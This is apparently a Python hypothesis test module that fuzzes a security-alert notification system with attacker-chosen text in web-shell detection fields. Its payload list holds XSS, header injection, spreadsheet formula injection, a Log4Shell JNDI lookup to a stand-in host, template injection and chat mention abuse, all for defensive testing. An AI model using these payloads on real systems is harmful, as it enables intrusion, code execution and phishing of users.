"""Texts that attackers choose, in every place of a detection that they can reach."""

from collections.abc import Sequence

from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

from notify.groups import Groups
from notify.inhibit import Inhibitor
from notify.labels import labels_of
from notify.message import Message, message
from notify.owner import Owners
from notify.route import Route
from tests.notify.samples import START
from tests.sinks.samples import BOOT, detection, process
from wire.batch import Host
from wire.detection import ContainerInfo, RuleInfo, Technique

# A machine with other things to do is no reason to fail.
patient = settings(deadline=None, suppress_health_check=[HealthCheck.too_slow])

FRAGMENTS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><a href="javascript:x">',
    "--><!--",
    "@channel",
    "@everyone",
    "<!here>",
    "<!channel>",
    "<@U012AB3CD>",
    "<https://evil.example|click>",
    "<at>all</at>",
    "\x1b[31m",
    "\x1b]8;;http://evil.example\x07",
    "\u202egpj.exe",
    "\u200b",
    "\r\nBcc: victim@example.org\r\n\r\nbody",
    "\n.\n",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "[click](https://evil.example)",
    "![x](https://evil.example/x.png)",
    "`",
    "``````",
    "~~~",
    "\n```\n",
    "# heading",
    "* item",
    "**bold**",
    "_x_",
    "~channel",
    ":skull:",
    "#1 !1 &1 GH-1 fixes #1",
    "/close",
    "\n/assign @root\n",
    "{code}",
    "{html}<b>x</b>{html}",
    "[code]<a href='//evil.example'>x</a>[/code]",
    "[click|https://evil.example]",
    "{$Ticket->SetStatus('resolved')}",
    "||spoiler||",
    "[~admin]",
    "!http://evil.example/x.png!",
    "{{7*7}}",
    "${jndi:ldap://evil.example/x}",
    "%0d%0aBcc:",
    "http://evil.example/x",
    "HTTPS://198.51.100.7/",
    "ftp://evil.example",
    "198.51.100.7",
    "2001:db8::1",
    "www.evil.example",
    "a" * 5000,
)
text = st.one_of(
    st.sampled_from(FRAGMENTS),
    st.lists(st.sampled_from(FRAGMENTS) | st.text(max_size=8), max_size=4).map("".join),
    st.text(max_size=60),
)


@st.composite
def messages(draw: st.DrawFn) -> Message:
    """A message whose texts were all chosen by an attacker, as far as one can."""
    some = [draw(text) for _ in range(10)]
    author = draw(st.sampled_from([one for one in FRAGMENTS if "example" not in one and "198" not in one]))
    return said(some, author, draw(st.integers(1, 3)))


def said(some: Sequence[str], author: str = "", count: int = 1) -> Message:
    """A message with ``some`` (10 texts) wherever an attacker can write, ``author``'s where a rule's do."""
    culprit = process(40, "/bin/sh", "-c", some[0], user=some[1], cwd=some[2], vpid=7)
    found = [
        detection(
            number,
            time=int(START * 1e9),
            host=Host(id="h", name=some[3], boot=BOOT),
            rule=RuleInfo(
                name=some[5] if number else "A web server started a shell",
                description=author,
                priority="Critical",
                techniques=[Technique("T1505.003", "Server Software Component: Web Shell", ["Persistence"])],
                response=author,
                false_positives=[author],
            ),
            output=f"{some[4]} | {some[5]}",
            process=culprit,
            ancestors=[process(30, some[6], some[7]), process(1, "/sbin/init", name=some[6])],
            container=ContainerInfo(id="f" * 64, name=some[8], image=some[9], runtime=some[5]),
            fields={"fd.name": some[2]},
            event={"kind": "socket", "remote_ip": "198.51.100.7", "remote_port": 4444, "proto": "tcp"},
            missing=[some[7]],
        )
        for number in range(count)
    ]
    machine = Groups(Route("route", "soc", group_by=("host", "container", "process")), Inhibitor(()))
    owners = Owners(fallback=some[1])
    for one in found:
        machine.add(one, labels_of(one, some[1]), START)
    (told,) = machine.due(START + 60, lambda _labels, _now: None).notifications
    return message(told, owners(told.lead))
